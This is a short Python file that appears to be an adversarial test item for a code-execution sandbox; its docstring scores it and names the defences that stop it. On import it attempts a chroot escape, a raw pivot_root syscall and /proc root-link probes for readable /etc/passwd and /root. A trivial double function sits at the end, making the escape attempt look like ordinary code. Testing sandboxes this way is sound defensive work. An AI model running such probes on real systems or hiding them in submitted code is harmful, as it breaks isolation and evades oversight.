"""It breaks out of the root folder: chroot with a folder kept open, pivot_root, `..`, the links in /proc.

earns: 4 exactly
stopped by: seccomp, root, namespaces
"""

import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
here = os.open("/", os.O_RDONLY)
os.makedirs("/tmp/attack-root", exist_ok=True)
with contextlib.suppress(OSError):
    os.chroot("/tmp/attack-root")
    os.fchdir(here)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED: chroot")
if libc.syscall(155, b"/tmp", b"/tmp/attack-root") == 0:
    print("ESCAPED: pivot_root")
for path in ("/..", "/proc/self/root/..", "/proc/1/root", f"/proc/{os.getppid() or 1}/root", "/proc/1/cwd", "/.."):
    for home in ("root", "home", "etc/passwd", "work", "boot"):
        if os.path.exists(f"{path}/{home}") and os.access(f"{path}/{home}", os.R_OK):
            print("ESCAPED:", f"{path}/{home}")
os.rmdir("/tmp/attack-root")
os.close(here)


def double(x):
    return 2 * x
